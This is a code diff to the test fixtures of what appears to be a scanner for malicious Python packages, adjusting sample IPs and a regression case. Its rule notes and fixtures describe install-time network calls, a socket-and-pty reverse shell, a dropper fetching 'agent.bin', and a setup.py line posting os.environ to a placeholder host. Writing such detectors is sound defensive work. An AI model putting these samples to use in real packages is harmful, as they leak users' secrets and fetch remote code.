@@ -178,7 +178,7 @@ SPECS: dict[str, Spec] = {
         "fire: an *.ngrok.io collector URL in setup.py. quiet: non-raw pastebin profile, a "
         "raw.githubusercontent CSV, 'interactive' words.")),
     "PV403": Spec(S.HIGH, note=(
-        "fire: urlopen('http://8.8.8.8:8080/...') in setup.py (install + network: high). quiet:"
+        "fire: urlopen('http://1.2.3.4:8080/...') in setup.py (install + network: high). quiet:"
         " loopback, private and documentation (203.0.113.x) addresses.")),
     "PV404": Spec(S.CRITICAL, note=(
         "fire: socket + os.dup2 onto 0/1/2 + pty.spawn. quiet: a daemon that dup2s its output "
@@ -480,7 +480,7 @@ SEVERITY_PATHS = {
         "setup.py", 3, S.HIGH, "curl uploading a local file at install time"),
     "pv203-raw-ip-at-run-time": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
-            "http://8.8.8.8/agent.bin")},  # a string only: nothing is ever contacted
+            "http://1.2.3.4/agent.bin")},  # a string only: nothing is ever contacted
         "mypkg/update.py", 7, S.HIGH, "run-time dropper fetching from a raw public IP"),
     "pv203-named-host-at-run-time": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
@@ -488,7 +488,7 @@ SEVERITY_PATHS = {
         "mypkg/update.py", 7, S.MEDIUM, "run-time updater fetching from a named host"),
     "pv203-raw-ip-in-tests": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "tests/test_update.py": _dropper(
-            "http://8.8.8.8/agent.bin")},
+            "http://1.2.3.4/agent.bin")},
         "tests/test_update.py", 7, S.MEDIUM, "run-time findings in test folders: capped"),
     "pv204-xor-literal-in-cmdclass": SevPath("PV204", {"setup.py": _xor_setup()},
         "setup.py", 14, S.HIGH, "install-time exec beside a scrambled literal"),
@@ -625,14 +625,15 @@ REGRESSIONS = {
         "import sys; sys.stdout.flush()\n"
         "import os; os.getcwd()\n")}, 1,
         "PV802 reported f.calls[0], which the LIFO stack walk made the last statement's call"),
-    "pv306-attribute-reference-at-its-line": Case("PV306", {"setup.py": (
-        "import sys\n"
+    "pv305-attribute-reference-at-its-line": Case("PV305", {"setup.py": (
+        "import json\n"
+        "import os\n"
         "import urllib.request\n"
         "\n"
-        "if sys.platform == 'win32':\n"
-        "    urllib.request.urlopen('https://example.invalid/x')\n")}, 4,
-        "capabilities from attribute references (REFS: sys.platform, os.environ) were recorded "
-        "at line 1 in FileContext._index, not at the reference"),
+        "urllib.request.urlopen('https://example.invalid/x', json.dumps(os.environ).encode())\n"
+        )}, 5,
+        "capabilities from attribute references (REFS: os.environ) were recorded at line 1 in "
+        "FileContext._index, not at the reference"),
     "pv405-local-address-idiom-is-quiet": Case("PV405", {"mypkg/net.py": (
         "import socket\n"
         "ip = socket.gethostbyname(socket.gethostname())\n")}, None,
